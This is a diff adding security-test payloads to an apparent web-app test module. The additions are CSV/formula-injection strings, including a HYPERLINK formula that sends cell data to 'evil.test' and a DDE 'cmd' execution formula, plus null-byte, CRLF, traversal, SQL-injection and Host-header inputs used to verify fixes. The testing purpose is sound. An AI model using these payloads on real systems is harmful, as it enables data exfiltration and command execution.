@@ -325,3 +325,36 @@ FORM_SAMPLE: list[Payload] = [
     for family, values in FAMILIES.items()
     for value in values[: {"xss": 5, "sql": 4, "crlf": 4}.get(family, 2)]
 ]
+
+# --- Issue 14: what an outside tester got through (appended by the security branch) ---------------------------------
+# Spreadsheet formulas typed as a name or an Ente (finding 2): exports must quote them (core/spreadsheets.py).
+FORMULA = [
+    '=HYPERLINK("http://evil.test/?d="&C2,"Apri")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+# What goes where a registration token is expected, as a raw path segment (finding 6): every one answers 404.
+TOKEN_SEGMENTS = [
+    "a%00",
+    "%00",
+    "a%0Ab",
+    "%0D%0A",
+    "%FF%FE",
+    "..%2F..",
+    "x" * 44,
+    "a b",
+    "%E2%80%AE" * 3,
+    "Ab-_" * 10 + "%00ab",
+    "'%20OR%201=1--",
+]
+# ?page= values that must not create page-cache keys (finding 6), and Host headers that must not reach a cache key
+# or an absolute URL (finding 4).
+PAGES = ["1001", "1050", "99999999999999999999", "0", "-1", "1e3", "01"]
+HOSTS = ["127.0.0.1:31337", "127.0.0.1:31338", "localhost:8080"]
+
+FAMILIES["formula"] = FORMULA
+ALL += [Payload("formula", value) for value in FORMULA]
